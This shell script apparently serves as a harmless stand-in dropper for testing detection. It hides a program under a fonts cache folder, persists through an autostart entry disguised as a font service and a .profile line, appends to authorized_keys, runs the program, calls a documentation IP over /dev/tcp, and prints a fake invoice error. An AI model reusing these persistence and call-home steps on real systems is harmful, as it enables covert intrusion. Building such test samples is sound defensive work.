#!/bin/sh
# A harmless stand-in for a dropper: it does what a malicious script does, to the home folder of a made-up
# user only, and to an address that is reserved for documentation (RFC 5737), where nobody answers.
cache="$HOME/.cache/.fonts"
mkdir -p "$cache" "$HOME/.config/autostart"

# It drops a hidden program …
cat >"$cache/.fontd" <<'PROGRAM'
#!/bin/sh
# A harmless stand-in for what a dropper drops. It notes that it was started, and ends.
# Nothing here is of any use to anybody; these lines make the file long enough to be told from others
# by its content: a hash of a handful of bytes would accuse every file with the same handful of bytes.
echo "the dropped program was started" >>"$HOME/.cache/.fonts/log"
PROGRAM
chmod 755 "$cache/.fontd"

# … makes it come again …
cat >"$HOME/.config/autostart/fontd.desktop" <<ENTRY
[Desktop Entry]
Type=Application
Name=Font service
Exec=$cache/.fontd
ENTRY
echo "[ -x $cache/.fontd ] && $cache/.fontd" >>"$HOME/.profile"
mkdir -p "$HOME/.ssh"
echo "# a key would stand here" >>"$HOME/.ssh/authorized_keys"

# … starts it …
"$cache/.fontd"

# … and calls home.
timeout 2 bash -c 'exec 3<>/dev/tcp/203.0.113.66/4444' 2>/dev/null
echo "the invoice could not be opened"
